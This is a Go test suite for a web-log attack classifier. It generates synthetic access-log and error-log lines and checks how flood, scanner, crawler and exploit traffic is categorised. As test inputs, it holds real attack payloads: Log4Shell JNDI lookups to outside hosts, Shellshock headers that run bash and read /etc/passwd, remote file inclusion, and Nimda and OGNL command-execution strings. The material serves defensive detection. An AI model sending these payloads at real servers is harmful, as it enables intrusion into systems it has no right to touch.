package classify

import (
	"context"
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"
)

// webLine formats one combined-format line at t0 plus sec seconds.
func webLine(ip string, sec int, method, target string, status int, agent string) string {
	t := time.Date(2024, 5, 6, 10, 0, 0, 0, time.UTC).Add(time.Duration(sec) * time.Second)
	return fmt.Sprintf("%s - - [%s] \"%s %s HTTP/1.1\" %d 512 \"-\" \"%s\"\n", ip, t.Format("02/Jan/2006:15:04:05 -0700"), method, target, status, agent)
}

const browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"

// classifyText runs the default rule set (with extra YAML merged over it)
// over log and returns each address's categories string.
func classifyText(t *testing.T, extra, log string) map[string]string {
	t.Helper()
	set, err := DefaultRuleSet()
	if err != nil {
		t.Fatal(err)
	}
	if extra != "" {
		over, err := ParseRules([]byte(extra), "extra.yaml")
		if err != nil {
			t.Fatal(err)
		}
		set.Merge(over)
	}
	rules, err := set.Compile()
	if err != nil {
		t.Fatal(err)
	}
	c := NewClassifier(rules, Options{Now: testNow, Location: time.UTC})
	if _, err := c.Classify(context.Background(), strings.NewReader(log), "access.log", time.Time{}, nil); err != nil {
		t.Fatal(err)
	}
	if err := c.Finish(nil); err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, a := range c.Actors() {
		out[a.IP.String()] = a.CategoriesString()
	}
	return out
}

// repeat concatenates n lines made by f(i).
func repeat(n int, f func(i int) string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(f(i))
	}
	return b.String()
}

func TestLoginFloods(t *testing.T) {
	const ip = "198.51.100.20"
	tests := []struct {
		name, log, want string
	}{
		{"wp-login.php flood", repeat(40, func(i int) string { return webLine(ip, i, "POST", "/wp-login.php", 200, browser) }), "brute_force:40"},
		{"xmlrpc.php system.multicall", repeat(12, func(i int) string { return webLine(ip, i*30, "POST", "/xmlrpc.php", 200, "Mozilla/5.0") }), "brute_force:12"},
		{"a few attempts are brute force", repeat(2, func(i int) string { return webLine(ip, i*600, "POST", "/wp-login.php", 200, browser) }), "brute_force:2"},
		{"Joomla administrator flood", repeat(30, func(i int) string { return webLine(ip, i*5, "POST", "/administrator/index.php", 303, browser) }), "brute_force:30"},
		{"Joomla admin logging in once", webLine(ip, 0, "POST", "/administrator/index.php", 303, browser), "legit:1"},
		{"admin/login 401 loop", repeat(15, func(i int) string { return webLine(ip, i*10, "POST", "/admin/login", 401, browser) }), "brute_force:15"},
		{"Magento customer login flood", repeat(20, func(i int) string { return webLine(ip, i*3, "POST", "/customer/account/loginPost/", 302, browser) }), "brute_force:20"},
		{"mistyped then logged in", webLine(ip, 0, "POST", "/wp-login.php", 200, browser) + webLine(ip, 20, "POST", "/wp-login.php", 302, browser), "legit:2"},
		{"GET wp-login.php is still a probe", webLine(ip, 0, "GET", "/wp-login.php", 404, browser), "vuln_scanner:1"},
		{"basic auth refused with a user name", repeat(6, func(i int) string {
			return strings.Replace(webLine(ip, i, "GET", "/private/", 401, browser), " - - ", " - admin ", 1)
		}), "brute_force:6"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := classifyText(t, "", tc.log)
			if got[ip] != tc.want {
				t.Errorf("got %q, want %q", got[ip], tc.want)
			}
		})
	}
}

func TestSiteLearnsItsOwnPaths(t *testing.T) {
	// Five visitors browse a WordPress shop: its plugin assets and admin
	// pages are the site's own.
	shop := repeat(5, func(i int) string {
		ip := fmt.Sprintf("203.0.113.%d", 10+i)
		return webLine(ip, i*60, "GET", "/", 200, browser) +
			webLine(ip, i*60+1, "GET", "/wp-content/plugins/woocommerce/assets/css/shop.css", 200, browser) +
			webLine(ip, i*60+2, "GET", "/product/blue-shoes/", 200, browser)
	})
	tests := []struct {
		name, extra, log, ip, want string
	}{
		{"plugin assets of a WordPress shop", "", shop, "203.0.113.12", "legit:3"},
		{"learning switched off", "site: {learn_clients: -1}", shop, "203.0.113.12", "vuln_scanner:1;legit:2"},
		{"a visitor who browsed logs in", "", shop + webLine("203.0.113.40", 400, "GET", "/", 200, browser) +
			webLine("203.0.113.40", 410, "POST", "/wp-login.php", 302, browser), "203.0.113.40", "legit:2"},
		{"a scanner on the same paths", "", shop + webLine("198.51.100.9", 500, "GET", "/wp-content/plugins/revslider/temp/update_extract/x.php", 200, "curl/8"),
			"198.51.100.9", "vuln_scanner:1"},
		{"a soft 404 answered to clients who never browse", "", repeat(5, func(i int) string {
			return webLine(fmt.Sprintf("198.51.100.%d", 20+i), i, "GET", "/phpmyadmin/", 200, "Mozilla/5.0")
		}), "198.51.100.22", "vuln_scanner:1"},
		{"a non-WordPress shop probed for wp-login.php", "", webLine("203.0.113.10", 0, "GET", "/", 200, browser) +
			webLine("198.51.100.30", 1, "GET", "/wp-login.php", 404, "Mozilla/5.0"), "198.51.100.30", "vuln_scanner:1"},
		{"public paths still override", "site: {public_paths: [/phpmyadmin/]}", webLine("198.51.100.31", 0, "GET", "/phpmyadmin/", 200, "Mozilla/5.0"),
			"198.51.100.31", "legit:1"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := classifyText(t, tc.extra, tc.log)
			if got[tc.ip] != tc.want {
				t.Errorf("got %q, want %q", got[tc.ip], tc.want)
			}
		})
	}
}

func TestProbingByBehaviour(t *testing.T) {
	const ip = "198.51.100.50"
	tests := []struct {
		name, log, want string
	}{
		{"a fuzzer's distinct 404s", repeat(30, func(i int) string {
			return webLine(ip, i, "GET", fmt.Sprintf("/%x/index.cgi", i*7919), 404, "Mozilla/5.0")
		}), "vuln_scanner:30"},
		{"remote file inclusion probes answered 400", repeat(25, func(i int) string {
			return webLine(ip, i, "GET", fmt.Sprintf("/modules/mod%d/include.php?path=x", i), 400, "Mozilla/5.0")
		}), "vuln_scanner:25"},
		{"a page with broken images", repeat(30, func(i int) string {
			return webLine(ip, i/10, "GET", fmt.Sprintf("/img/gallery-%d.jpg", i), 404, browser)
		}), "legit:30"},
		{"one broken link, again and again", repeat(40, func(i int) string { return webLine(ip, i, "GET", "/old-page", 404, browser) }), "legit:40"},
		{"a few errors an hour", repeat(30, func(i int) string { return webLine(ip, i*120, "GET", fmt.Sprintf("/p/%d", i), 404, browser) }), "legit:30"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := classifyText(t, "", tc.log)[ip]; got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
	if got := classifyText(t, "probing: {disabled: true}", tests[0].log)[ip]; got != "legit:30" {
		t.Errorf("disabled: got %q", got)
	}
}

func TestExploitsInEveryField(t *testing.T) {
	const ip = "198.51.100.70"
	ts := "[06/May/2024:10:00:00 +0000]"
	full := func(req, ref, agent, xff string) string {
		return fmt.Sprintf("%s - - %s \"%s\" 200 512 \"%s\" \"%s\" \"%s\"\n", ip, ts, req, ref, agent, xff)
	}
	long := strings.Repeat("A", 2000)
	tests := []struct {
		name, line, rule string
	}{
		{"Log4Shell in the Referer", full("GET / HTTP/1.1", "${jndi:ldap://198.51.100.1:1389/a}", browser, "-"), "log4shell"},
		{"Log4Shell in X-Forwarded-For", full("GET / HTTP/1.1", "-", browser, "${jndi:dns://x.oast.fun/a}"), "log4shell"},
		{"Log4Shell obfuscated", full("GET / HTTP/1.1", "-", "${${lower:j}ndi:${lower:l}dap://x/a}", "-"), "log4shell"},
		{"Log4Shell with defaults", full("GET /?q=${${::-j}${::-n}di:rmi://x/a} HTTP/1.1", "-", browser, "-"), "log4shell"},
		{"Shellshock in the agent", full("GET /cgi-bin/status HTTP/1.1", "-", "() { :; }; /bin/bash -c 'id'", "-"), "shellshock"},
		{"Shellshock in the Referer", full("GET / HTTP/1.1", "() { ignored; }; echo; /bin/cat /etc/passwd", browser, "-"), "shellshock"},
		{"remote file inclusion", full("GET /index.php?page=http://cirt.net/rfiinc.txt? HTTP/1.1", "-", browser, "-"), "remote-file-inclusion"},
		{"php://input", full("POST /index.php?file=php://input HTTP/1.1", "-", browser, "-"), "rce-shell-download"},
		{"data:// wrapper", full("GET /?p=data://text/plain;base64,PD9waHA= HTTP/1.1", "-", browser, "-"), "file-scheme"},
		{"WordPress user enumeration", full("GET /?author=1 HTTP/1.1", "-", browser, "-"), "wordpress-user-enumeration"},
		{"Code Red", full("GET /default.ida?XXXXXXXXXXXXXXXXXXXX%u9090%u6858%ucbd3%u7801 HTTP/1.0", "-", "-", "-"), "iis-worms"},
		{"Code Red II", full("GET /default.ida?NNNNNNNNNNNNNNNNNNNN%u9090%u6858 HTTP/1.0", "-", "-", "-"), "iis-worms"},
		{"Nimda, Unicode traversal", full("GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0", "-", "-", "-"), "rce-shell-download"},
		{"Nimda, %c1%1c", full("GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir HTTP/1.0", "-", "-", "-"), "rce-shell-download"},
		{"Nimda, root.exe", full("GET /MSADC/root.exe?/c+dir HTTP/1.0", "-", "-", "-"), "iis-worms"},
		{"nsiislog.dll", full("POST /scripts/nsiislog.dll HTTP/1.1", "-", "-", "-"), "iis-worms"},
		{"WebDAV SEARCH overflow", full("SEARCH /"+long+" HTTP/1.1", "-", "-", "-"), "webdav-overflow"},
		{"AEM", full("GET /crx/de/index.jsp HTTP/1.1", "-", browser, "-"), "probe-path"},
		{"SAP", full("GET /sap/bc/gui/sap/its/webgui HTTP/1.1", "-", browser, "-"), "probe-path"},
		{"Confluence OGNL", full("GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/ HTTP/1.1", "-", browser, "-"), "rce-shell-download"},
		{"webshell", full("GET /wp-content/uploads/alfa-rex.php HTTP/1.1", "-", browser, "-"), "webshell"},
		{"GPON", full("POST /GponForm/diag_Form?images/ HTTP/1.1", "-", "Mozilla/5.0", "-"), "known-exploits"},
		{"Cacti", full("GET /remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=1 HTTP/1.1", "-", browser, "127.0.0.1"), "known-exploits"},
		{"Zimbra", full("POST /service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1 HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"GLPI", full("GET /vendor/htmlawed/htmlawed/htmLawedTest.php HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"Telerik UI", full("POST /Telerik.Web.UI.WebResource.axd?type=rau HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"OFBiz", full("POST /webtools/control/main/ProgramExport HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"Jenkins CLI", full("POST /cli?remoting=false HTTP/1.1", "-", "Java/17", "-"), "known-exploits"},
		{"TeamCity", full("POST /app/rest/users/id:1/tokens/RPC2 HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"Check Point", full("POST /clients/MyCRL HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"Openfire", full("GET /setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"Joomla", full("GET /api/index.php/v1/config/application?public=true HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"MOVEit", full("POST /moveitisapi/moveitisapi.dll?action=m2 HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"ScreenConnect", full("GET /SetupWizard.aspx/x HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"GeoServer", full("GET /geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(x,'y') HTTP/1.1", "-", browser, "-"), "rce-shell-download"},
		{"D-Link NAS", full("GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ= HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"Jira WEB-INF", full("GET /s/x/_/;/WEB-INF/web.xml HTTP/1.1", "-", browser, "-"), "known-exploits"},
		{"a Joomla API call of its own", full("GET /api/index.php/v1/articles HTTP/1.1", "-", browser, "-"), ""},
		{"Nimda, double encoding", full("GET /scripts/..%255c../winnt/system32/net.exe HTTP/1.0", "-", "-", "-"), "iis-worms"},
		{"a redirect parameter is no inclusion", full("GET /login?next=https://shop.example/cart HTTP/1.1", "-", browser, "-"), ""},
		{"a book search by author", full("GET /books?author=tolkien HTTP/1.1", "-", browser, "-"), ""},
		{"an ordinary PROPFIND", full("PROPFIND /dav/calendars/anna/ HTTP/1.1", "-", "DAVx5/4.3", "-"), ""},
	}
	set, err := DefaultRuleSet()
	if err != nil {
		t.Fatal(err)
	}
	rules, err := set.Compile()
	if err != nil {
		t.Fatal(err)
	}
	p := newLineParser(rules, &Options{})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := p.classify([]byte(strings.TrimSuffix(tc.line, "\n")), &fileCtx{format: FormatAccess})
			if v.res != resOK || v.rule != tc.rule {
				t.Errorf("res %v rule %q, want %q", v.res, v.rule, tc.rule)
			}
		})
	}
}

func TestFloodShapes(t *testing.T) {
	const ip = "198.51.100.90"
	tests := []struct {
		name, log, want string
	}{
		{"the whole flood is dos", repeat(1200, func(i int) string { return webLine(ip, i/20, "GET", "/", 200, browser) }), "dos:1200"},
		{"a burst of 400 in 4 seconds", repeat(400, func(i int) string { return webLine(ip, i/100, "GET", "/search", 200, browser) }), "dos:400"},
		{"cache busting", repeat(150, func(i int) string {
			return webLine(ip, i/3, "GET", fmt.Sprintf("/?%x", uint32(i)*2654435761), 200, browser)
		}), "dos:150"},
		{"agent cycling", repeat(60, func(i int) string {
			return webLine(ip, i, "GET", "/", 200, fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0) Chrome/%d.0", 60+i))
		}), "dos:60"},
		{"a visitor paging through a shop", repeat(40, func(i int) string { return webLine(ip, i*3, "GET", fmt.Sprintf("/shop?page=%d", i), 200, browser) }), "legit:40"},
		{"a busy visitor", repeat(200, func(i int) string { return webLine(ip, i/2, "GET", "/static/app.js", 200, browser) }), "legit:200"},
		{"nginx limit_req", `2024/05/06 10:00:00 [error] 123#0: *456 limiting requests, excess: 20.500 by zone "one", client: 198.51.100.90, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"` + "\n", "dos:1"},
		{"nginx limit_conn", `2024/05/06 10:00:00 [error] 123#0: *457 limiting connections by zone "addr", client: 198.51.100.90, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"` + "\n", "dos:1"},
		{"mod_qos", `[Mon May 06 10:00:00.123456 2024] [qos:error] [pid 1] [client 198.51.100.90:5050] mod_qos(067): access denied, QS_ClientEventBlockCount rule: max=20, current=22, c=198.51.100.90` + "\n", "dos:1"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := classifyText(t, "", tc.log)[ip]; got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

func TestCrawlersVerified(t *testing.T) {
	const gb = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	const bing = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
	const mj12 = "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)"
	tests := []struct {
		name, log, ip, want string
	}{
		{"Googlebot from Google", webLine("66.249.66.1", 0, "GET", "/", 200, gb), "66.249.66.1", "good_bot:1"},
		{"Googlebot from elsewhere", webLine("45.9.148.3", 0, "GET", "/", 200, gb), "45.9.148.3", "vuln_scanner:1"},
		{"Bingbot from Microsoft", webLine("157.55.39.10", 0, "GET", "/", 200, bing), "157.55.39.10", "good_bot:1"},
		{"Bingbot from elsewhere", webLine("103.1.2.3", 0, "GET", "/", 200, bing), "103.1.2.3", "vuln_scanner:1"},
		{"Applebot from Apple", webLine("17.241.75.7", 0, "GET", "/", 200, "Mozilla/5.0 (Macintosh) Applebot/0.1"), "17.241.75.7", "good_bot:1"},
		{"an unverified crawler", webLine("46.4.10.1", 0, "GET", "/", 200, mj12), "46.4.10.1", "good_bot:1"},
		{"a crawler follows a broken link", webLine("46.4.10.2", 0, "GET", "/", 200, mj12) +
			webLine("46.4.10.2", 5, "GET", "/file:///C:/Users/site/index.html", 404, mj12), "46.4.10.2", "good_bot:2"},
		{"a crawler that keeps exploiting", repeat(3, func(i int) string {
			return webLine("46.4.10.3", i, "GET", "/cgi-bin/../../etc/passwd", 404, mj12)
		}), "46.4.10.3", "vuln_scanner:2;good_bot:1"},
		{"extra ranges", webLine("198.51.100.200", 0, "GET", "/", 200, gb), "198.51.100.200", "vuln_scanner:1"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := classifyText(t, "", tc.log)[tc.ip]; got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
	extra := "crawlers: {ranges: {googlebot: [198.51.100.0/24]}}"
	if got := classifyText(t, extra, webLine("198.51.100.200", 0, "GET", "/", 200, gb))["198.51.100.200"]; got != "good_bot:1" {
		t.Errorf("extra ranges: got %q", got)
	}
}

func TestHostnamesAndQuotedLines(t *testing.T) {
	log := `crawl-66-249-66-1.googlebot.com - - [14/Jun/2004:09:00:00 +0000] "GET / HTTP/1.0" 200 1 "-" "Mozilla/4.75 (Nikto/2.1.6)"
shop.example client-7.dsl.example.net - - [14/Jun/2004:09:00:01 +0000] "GET / HTTP/1.0" 200 1 "-" "Mozilla/4.0"
"192.168.4.164 - - [22/Dec/2016:15:19:06 +0300] "HEAD /DVWA/.git/config HTTP/1.1" 404 139 "-" "Mozilla/5.0""
not a log line at all
`
	set, _ := DefaultRuleSet()
	rules, err := set.Compile()
	if err != nil {
		t.Fatal(err)
	}
	c := NewClassifier(rules, Options{})
	if _, err := c.Classify(context.Background(), strings.NewReader(log), "access.log", time.Time{}, nil); err != nil {
		t.Fatal(err)
	}
	st := c.Stats()
	if st.Skipped["hostname"] != 2 || st.Skipped["malformed"] != 1 || st.Classified != 1 {
		t.Errorf("classified %d, skipped %v; want 1, hostname 2, malformed 1", st.Classified, st.Skipped)
	}
	if a := c.Actors(); len(a) != 1 || a[0].Category != VulnScanner {
		t.Errorf("actors %v, want the quoted line's scanner", a)
	}
}

// Error-log lines that are evidence of an attack, as Apache, nginx,
// ModSecurity and bash write them, and housekeeping lines that are not.
func TestErrorLogProbes(t *testing.T) {
	tests := []struct {
		name, line, rule string
	}{
		{"ModSecurity 2 on Apache 2.4", `[Thu Sep 30 13:27:06.010524 2021] [:error] [pid 2560:tid 140496349419264] [client 198.51.100.80:37752] [client 198.51.100.80] ModSecurity: Access denied with code 403 (phase 2). Operator GE matched 5 at TX:anomaly_score. [file "/usr/share/modsecurity-crs/rules/REQUEST-949-BLOCKING-EVALUATION.conf"] [line "93"] [id "949110"] [msg "Inbound Anomaly Score Exceeded (Total Score: 40)"] [hostname "localhost"] [uri "/"] [unique_id "YVW7KjiKxXlACWj0fjsbkgAAAEk"]`, "http-error-probe"},
		{"ModSecurity 2, connection closed", `[Tue Aug 15 15:19:40.515237 2023] [security2:error] [pid 309:tid 140200051428152] [client 198.51.100.80] ModSecurity: Access denied with connection close (phase 1). Operator EQ matched 0 at IP. [id "912120"] [hostname "www.example.com"] [uri "/us/en.html"]`, "http-error-probe"},
		{"ModSecurity 2, detection only", `[Thu Sep 30 13:27:06.010136 2021] [:error] [pid 2560:tid 1] [client 198.51.100.80:37752] [client 198.51.100.80] ModSecurity: Warning. Matched phrase "etc/passwd" at ARGS:a. [id "930120"] [msg "OS File Access Attempt"] [hostname "localhost"] [uri "/"]`, "http-error-probe"},
		{"ModSecurity on Apache 2.2", `[Mon Dec 23 13:12:31 2013] [error] [client 198.51.100.80] ModSecurity:  [file "/etc/httpd/modsecurity.d/activated_rules/modsecurity_crs_21_protocol_anomalies.conf"] [line "47"] [id "960015"] [msg "Request Missing an Accept Header"] Access denied with code 403 (phase 2). Operator EQ matched 0 at REQUEST_HEADERS. [hostname "www.example.net"] [uri "/"]`, "http-error-probe"},
		{"ModSecurity 3 on nginx", `2019/01/14 01:11:38 [error] 53606#53606: *1 [client 198.51.100.80] ModSecurity: Access denied with code 403 (phase 2).  [file "/etc/nginx/modsec/REQUEST-942-APPLICATION-ATTACK-SQLI.conf"] [line "43"] [id "942100"] [hostname "203.0.113.1"] [uri "/foo"] [unique_id "154739949830.167305"] [ref ""], client: 198.51.100.80, server: shop.example, request: "GET /foo?testparam=1%20or%20%271%27=%271 HTTP/1.1", host: "shop.example"`, "http-error-probe"},
		{"an invalid method", `[Thu Nov 15 03:09:59 2007] [error] [client 198.51.100.80] Invalid method in request NOOP`, "http-error-probe"},
		{"an over-long URI", `[Fri Jul 30 11:23:54 2010] [error] [client 198.51.100.80] request failed: URI too long (longer than 8190)`, "http-error-probe"},
		{"bash refusing Shellshock", `[Thu Sep 25 09:27:18.813902 2014] [cgi:error] [pid 16860] [client 198.51.100.80:59635] AH01215: /bin/bash: warning: HTTP_TEST: ignoring function definition attempt`, "rce-shell-download"},
		{"ModSecurity's housekeeping", `[Thu Sep 30 13:27:06.010524 2021] [:error] [pid 2560] [client 127.0.0.1] ModSecurity: collections_remove_stale: Failed to access DBM file "/var/cache/modsecurity/ip": Permission denied [hostname "localhost"] [uri "/server-status"]`, ""},
		{"ModSecurity letting a request through", `[Thu Sep 30 13:27:06.010524 2021] [:error] [pid 2560] [client 198.51.100.81] ModSecurity: Access allowed (phase 1). Pattern match "^198\\.51\\." at REMOTE_ADDR. [id "1000"] [hostname "localhost"] [uri "/"]`, ""},
	}
	p := newLineParser(mustRules(t, ""), &Options{Location: time.UTC})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := p.classify([]byte(tc.line), &fileCtx{ref: testNow, cols: noColumns})
			if v.res != resOK || v.rule != tc.rule || tc.rule != "" && v.ip != netip.MustParseAddr("198.51.100.80") {
				t.Errorf("res %s rule %q ip %v, want %q", resultName(v.res), v.rule, v.ip, tc.rule)
			}
		})
	}
}
